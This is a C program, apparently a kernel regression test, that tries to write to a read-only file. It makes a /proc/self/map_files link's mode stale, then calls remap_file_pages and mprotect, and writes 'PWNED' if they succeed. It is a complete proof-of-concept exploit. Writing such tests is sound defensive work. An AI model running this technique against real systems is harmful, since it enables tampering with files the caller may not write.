/* t-atk-stale.c - attack: make the mode of a map_files link stale, then ask
 * for a remap of a read-only open file (a root remaptrace once
 * judged VM_SHARED from that mode and mapped the file read-write).
 *
 * Usage: t-atk-stale OWNFILE VICTIM
 * OWNFILE: a file of the caller's, opened read-write; VICTIM: a file it may
 * only read.  Both at least 4 pages.  The program:
 *  1. maps OWNFILE MAP_SHARED (read-write open file) at A, 4 pages;
 *  2. looks up /proc/self/map_files/A-B once (its mode is now "rw");
 *  3. maps VICTIM, opened O_RDONLY, MAP_SHARED|MAP_FIXED over A;
 *  4. calls remap_file_pages(A, 4096, 0, 1, 0): the kernel says EINVAL
 *     (no VM_SHARED without FMODE_WRITE);
 *  5. tries mprotect(A, PROT_READ|PROT_WRITE) and, if that works, writes
 *     "PWNED" into page 0.
 * Prints "remap: 0" or "remap: -1 ERRNO", then "mprotect: ..." and
 * "store: ...".  The test judges from the victim file itself.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define PG	4096

static void
die(const char *what)
{
	fprintf(stderr, "t-atk-stale: %s: %s\n", what, strerror(errno));
	exit(1);
}

int
main(int argc, char **argv)
{
	char link[128];
	struct stat st;
	int own, victim;
	char *a;

	if (argc != 3) {
		fprintf(stderr, "usage: t-atk-stale OWNFILE VICTIM\n");
		return 2;
	}
	own = open(argv[1], O_RDWR);
	victim = open(argv[2], O_RDONLY);
	if (own < 0 || victim < 0)
		die("open");
	a = mmap(NULL, 4 * PG, PROT_READ, MAP_SHARED, own, 0);
	if (a == MAP_FAILED)
		die("mmap own");
	snprintf(link, sizeof(link), "/proc/self/map_files/%lx-%lx",
		 (unsigned long)a, (unsigned long)a + 4 * PG);
	/* Instantiates the dentry: its mode is fixed from now on. */
	if (lstat(link, &st) < 0)
		die("lstat map_files");
	if (mmap(a, 4 * PG, PROT_READ, MAP_SHARED | MAP_FIXED, victim, 0) != a)
		die("mmap victim");
	close(own);
	close(victim);
	if (remap_file_pages(a, PG, 0, 1, 0) == 0)
		printf("remap: 0\n");
	else
		printf("remap: -1 %s\n", strerrorname_np(errno));
	if (mprotect(a, PG, PROT_READ | PROT_WRITE) == 0) {
		printf("mprotect: 0\n");
		memcpy(a, "PWNED", 5);
		msync(a, PG, MS_SYNC);
		printf("store: done\n");
	} else {
		printf("mprotect: -1 %s\n", strerrorname_np(errno));
		printf("store: not tried\n");
	}
	return 0;
}
